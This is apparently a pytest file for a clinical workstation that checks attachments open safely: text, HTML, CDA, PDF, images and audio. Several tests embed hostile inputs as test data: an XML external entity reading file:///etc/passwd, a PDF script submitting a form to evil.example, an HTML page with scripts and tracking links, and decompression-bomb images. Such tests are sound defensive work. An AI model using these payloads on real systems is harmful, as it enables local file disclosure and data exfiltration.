"""Attachments opened through the store and the workers: honest ones whole, hostile ones without harm."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import struct
import time

import attachment_samples as made
import pytest

from workstation.domain.document import (
    BlockKind,
    ContentKind,
    NoReading,
    PagesReading,
    RemarkKind,
    SoundReading,
    TextReading,
    Unshown,
)
from workstation.errors import DamagedFile, UnsafeFile
from workstation.services import documents, exporting, importing, patients

PATIENT = {"resourceType": "Patient", "id": "p", "birthDate": "1970-01-01", "name": [{"family": "Ho"}]}


@pytest.fixture
def chart(clinic, tmp_path):
    """``chart(*resources)`` imports them for one patient and returns the id of that patient."""
    def take(*resources):
        file = tmp_path / "in.json"
        entries = [{"resource": one} for one in (PATIENT, *resources)]
        bundle = {"resourceType": "Bundle", "type": "collection", "entry": entries}
        file.write_text(json.dumps(bundle), encoding="utf-8")
        report = importing.import_paths(clinic, [file])
        assert report.files[0].status == "imported", report.as_json()
        return patients.search(clinic)[0].id

    return take


@pytest.fixture
def read(clinic, chart):
    """``read(data, declared)``: one attachment imported and opened."""
    def do(data, declared="application/octet-stream", **attachment):
        patient = chart(made.reference(data, declared, **attachment))
        one = documents.listed(clinic, patient)[0]
        return documents.opened(clinic, one, one.parts[0])

    return do


def _words(opened):
    assert isinstance(opened.reading, TextReading)
    return [block.text for block in opened.reading.blocks]


def _kinds(opened):
    return [remark.kind for remark in opened.remarks]


def test_plain_text_in_paragraphs(read):
    assert _words(read(b"Dear colleague,\r\n\r\nthank you.\nAll well.", "text/plain")) == [
        "Dear colleague,", "thank you.\nAll well."]


def test_a_page_with_scripts_and_pictures_of_the_disk_leaves_its_words(read):
    page = (b"<html><head><title>Letter</title><style>p{}</style></head><body onload='go()'><script>steal()</script>"
            b"<h2>Findings</h2><p>Heart <img src='file:///etc/passwd' alt='a heart'> and <a href='javascript:x()'>"
            b"lungs</a>"
            b"<table><tr><th>Name<th>Value<tr><td>Hb<td>12.5</table><ul><li>one<li>two</ul>"
            b"<iframe src='http://evil.example'></iframe><img src='http://evil.example/track.gif'></body>")
    opened = read(page, "text/html")
    assert isinstance(opened.reading, TextReading)
    blocks = opened.reading.blocks
    assert [(b.kind, b.text) for b in blocks if b.kind is not BlockKind.TABLE] == [
        (BlockKind.HEADING, "Letter"), (BlockKind.HEADING, "Findings"),
        (BlockKind.PARAGRAPH, "Heart [a heart] and lungs"), (BlockKind.ITEM, "one"), (BlockKind.ITEM, "two")]
    assert [b.rows for b in blocks if b.rows] == [(("Name", "Value"), ("Hb", "12.5"))]
    assert {r.kind: r.values for r in opened.remarks} == {
        RemarkKind.SCRIPTS_LEFT_OUT: ("4",), RemarkKind.PICTURES_LEFT_OUT: ("2",)}


def test_a_cda_is_read_by_its_sections(read):
    cda = (b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"
           b"<ClinicalDocument xmlns='urn:hl7-org:v3'>"
           b"<title>Visit &e;</title><recordTarget><patientRole><id extension='secret'/></patientRole></recordTarget>"
           b"<component><structuredBody><component><section><title>Plan</title><text><list><item>Rest</item></list>"
           b"</text><entry><act><text>coded</text></act></entry></section></component></structuredBody></component>"
           b"</ClinicalDocument>")
    opened = read(cda, "text/xml")
    assert opened.found is ContentKind.CDA
    assert _words(opened) == ["Visit &e;", "Plan", "Rest"]


def test_rtf_and_what_it_is_called(read):
    opened = read(rb"{\rtf1 Hello\par there}", "application/msword")
    assert _words(opened) == ["Hello\nthere"]
    assert opened.remarks[0].values == ("application/msword", "RTF")


def test_base64_cut_off_wrong_size_and_wrong_hash_are_said(clinic, chart):
    resource = made.reference(None, "text/plain")
    resource["content"][0]["attachment"] |= {"data": base64.b64encode(b"Dear colleague").decode()[:-3], "size": 14}
    wrong = base64.b64encode(hashlib.sha1(b"Hellp").digest()).decode()
    patient = chart(made.reference(b"Hello", "text/plain", "d2", hash=wrong))
    opened = documents.opened(clinic, (one := documents.listed(clinic, patient)[0]), one.parts[0])
    assert _kinds(opened) == [RemarkKind.HASH_DIFFERS]
    held = documents.attachments.at(resource, "content.0.attachment")
    data, cut = documents.attachments.content_of(held)
    assert (data, cut) == (b"Dear colleag", True)
    said = documents._checked(held, one.parts[0], ContentKind.TEXT, data, cut)
    assert [remark.kind for remark in said] == [RemarkKind.DATA_CUT, RemarkKind.SIZE_DIFFERS]


def test_a_pdf_is_drawn_page_by_page(read):
    opened = read(made.pdf(3), "application/pdf")
    assert isinstance(opened.reading, PagesReading)
    assert opened.reading.sizes == ((595.0, 842.0),) * 3
    picture = documents.page(opened, 2, 300)
    assert (picture.number, picture.count, picture.width) == (3, 3, 300)
    assert min(picture.pixels) < 80 < 250 < max(picture.pixels)
    assert opened.remarks == ()


def test_a_pdf_with_scripts_is_drawn_and_they_are_named(read):
    opened = read(made.pdf(script="app.alert('owned'); this.submitForm('http://evil.example')"), "application/pdf")
    assert _kinds(opened) == [RemarkKind.ACTIVE_PDF]
    assert documents.page(opened, 0, 200).width in (200, 201)       # PDFium rounds up


def test_a_damaged_pdf_is_refused_in_words(read, reference_data):
    data = (reference_data / "security/image/pdf_trunc.pdf").read_bytes()
    try:
        opened = read(data, "application/pdf")
    except DamagedFile as fault:
        assert "PDF" in fault.sentence()
    else:
        assert isinstance(opened.reading, PagesReading)          # PDFium repaired it


@pytest.mark.parametrize("data", [b"%PDF-1.7\n" + b"(" * 200_000, b"%PDF-1.4\n%%EOF"])
def test_what_only_begins_as_a_pdf(read, data):
    with pytest.raises((DamagedFile, UnsafeFile)):
        read(data, "application/pdf")


def test_pictures_are_drawn_to_the_width_asked(read):
    opened = read(made.png(40, 20, b"".join(b"\0" + bytes([x * 6 for x in range(40)]) for _ in range(20))), "image/png")
    assert opened.reading == PagesReading(((40.0, 20.0),), scalable=False)
    picture = documents.page(opened, 0, 400)
    assert (picture.width, picture.height) == (40, 20)           # a picture is never blown up here
    assert picture.pixels[:6] == bytes([0, 0, 0, 6, 6, 6])


def test_sixteen_bit_grey_keeps_its_range(read):
    from PIL import Image

    into = io.BytesIO()
    Image.frombytes("I;16", (4, 1), struct.pack("<4H", 1000, 2000, 3000, 4000)).save(into, "PNG")
    assert documents.page(read(into.getvalue(), "image/png"), 0, 4).pixels[::3] == bytes([0, 85, 170, 255])


def test_pages_of_a_fax(read):
    from PIL import Image

    into = io.BytesIO()
    sheets = [Image.new("1", (80, 100), number) for number in (0, 1)]
    sheets[0].save(into, "TIFF", save_all=True, append_images=sheets[1:], compression="group4")
    opened = read(into.getvalue(), "image/tiff")
    assert len(opened.reading.sizes) == 2
    assert documents.page(opened, 0, 80).pixels[0] == 0
    assert documents.page(opened, 1, 80).pixels[0] == 255


def test_a_picture_that_unpacks_to_gigabytes_is_refused(read):
    with pytest.raises(UnsafeFile, match="60000 x 20000 pixels"):
        read(made.png(60_000, 20_000, b""), "image/png")


@pytest.mark.parametrize("name", ["png_bomb.png", "jpg_dim.jpg", "gif_trunc.gif"])
def test_hostile_pictures(read, reference_data, name):
    began = time.monotonic()
    data = (reference_data / "security/image" / name).read_bytes()
    try:
        opened = read(data, "image/png")
        documents.page(opened, 0, 500)
    except (DamagedFile, UnsafeFile) as fault:
        assert fault.sentence()
    assert time.monotonic() - began < 20


@pytest.mark.parametrize(("bits", "coding"), [(8, "PCM 8 bit"), (16, "PCM 16 bit"), (24, "PCM 24 bit"),
                                              (32, "PCM 32 bit")])
def test_sound_of_every_depth_keeps_its_extremes(read, bits, coding):
    import numpy as np

    opened = read(made.wav(bits), "audio/wav")
    assert isinstance(opened.reading, SoundReading)
    samples = np.frombuffer(opened.reading.samples, np.float32)
    assert (opened.reading.rate_hz, opened.reading.frames, opened.reading.coding) == (4000, 4000, coding)
    assert samples.min() == -1.0
    assert samples.max() == pytest.approx(1 - 2 ** (1 - bits), abs=1e-7)
    assert opened.remarks == ()


@pytest.mark.parametrize("form", ["FLAC", "OGG", "MP3"])
def test_packed_sound(read, form):
    import numpy as np
    import soundfile

    into = io.BytesIO()
    soundfile.write(into, np.sin(np.arange(16_000) / 20).astype("float32") * 0.5, 16_000, format=form)
    reading = read(into.getvalue()).reading
    assert isinstance(reading, SoundReading)
    assert reading.seconds == pytest.approx(1.0, abs=0.2)


def test_a_recording_that_is_cut_off_says_how_much_is_there(read):
    opened = read(made.wav(frames=4000, claimed=40_000), "audio/wav")
    assert opened.reading.seconds == pytest.approx(1.0)
    assert [(r.kind, r.values) for r in opened.remarks] == [(RemarkKind.SOUND_CUT, ("10.0", "1.0"))]


@pytest.mark.parametrize("damage", [b"RIFF\xff\xff\xff\xffWAVE", made.wav()[:40], b"fLaC" + b"\0" * 50])
def test_sound_that_is_none(read, damage):
    with pytest.raises((DamagedFile, UnsafeFile)):
        read(damage, "audio/wav")


def test_a_wrong_type_is_read_by_its_content_and_said(read):
    opened = read(made.pdf(), "image/jpeg")
    assert isinstance(opened.reading, PagesReading)
    assert [(r.kind, r.values) for r in opened.remarks] == [(RemarkKind.TYPE_DIFFERS, ("image/jpeg", "PDF"))]


@pytest.mark.parametrize(("data", "why"), [
    (b"\0" * 128 + b"DICM\2\0", Unshown.IMAGING), (b"PK\x03\x04" + b"x" * 30, Unshown.NO_READER),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1word", Unshown.NO_READER),
])
def test_what_no_reader_is_for(read, data, why):
    assert read(data).reading.why is why


def test_an_address_is_never_fetched(clinic, chart, monkeypatch):
    import socket

    monkeypatch.setattr(socket.socket, "connect", lambda *_: pytest.fail("something was fetched"))
    patient = chart(made.reference(None, "application/pdf", url="http://127.0.0.1:9/letter.pdf"))
    one = documents.listed(clinic, patient)[0]
    assert documents.opened(clinic, one, one.parts[0]).reading == NoReading(
        Unshown.ADDRESS, "http://127.0.0.1:9/letter.pdf")


def test_a_binary_of_the_store_is_opened_and_not_listed_twice(clinic, chart):
    binary = {"resourceType": "Binary", "id": "b1", "contentType": "text/plain",
              "data": base64.b64encode(b"From the Binary").decode()}
    patient = chart(binary, made.reference(None, "text/plain", url="Binary/b1"),
                    made.reference(None, "text/plain", "d2", url="Binary/never-sent"))
    listed = documents.listed(clinic, patient)
    assert [one.source for one in listed] == ["DocumentReference/d1", "DocumentReference/d2"]
    assert _words(documents.opened(clinic, listed[0], listed[0].parts[0])) == ["From the Binary"]
    assert documents.opened(clinic, listed[1], listed[1].parts[0]).reading.why is Unshown.NOT_HERE


def test_authors_and_visits_by_reference_get_their_names(clinic, chart):
    resource = made.reference(b"Hello", "text/plain")
    resource["author"] = [{"reference": "urn:uuid:7d1"}]
    resource["context"] = {"encounter": [{"reference": "Encounter/e1"}]}
    patient = chart(
        resource, {"resourceType": "Practitioner", "id": "7d1", "name": [{"family": "Wu", "given": ["Lan"]}]},
        {"resourceType": "Encounter", "id": "e1", "status": "finished", "class": {"code": "AMB"},
         "type": [{"text": "Review"}], "subject": {"reference": "Patient/p"}})
    one = documents.listed(clinic, patient)[0]
    assert (one.author, one.encounter) == ("Wu, Lan", "Review")


def test_a_large_attachment_is_listed_opened_and_exported_byte_for_byte(clinic, tmp_path, chart):
    import random

    data = b"%PDF-1.4 no more " + random.Random(5).randbytes(20 << 20)
    resource = made.reference(data, "application/pdf", size=len(data))
    began = time.monotonic()
    patient = chart(resource)
    took = time.monotonic() - began
    began = time.monotonic()
    one = documents.listed(clinic, patient)[0]
    listing = time.monotonic() - began
    assert (one.parts[0].size, one.parts[0].found) == (len(data), ContentKind.PDF)
    with pytest.raises((DamagedFile, UnsafeFile)):
        documents.opened(clinic, one, one.parts[0])
    exporting.export(clinic, patient, "bundle", tmp_path / "out.json")
    assert base64.b64encode(data).decode() in (tmp_path / "out.json").read_text(encoding="utf-8")
    print(f"20 MB: imported in {took:.1f} s, listed in {listing * 1000:.0f} ms")
    assert listing < 5
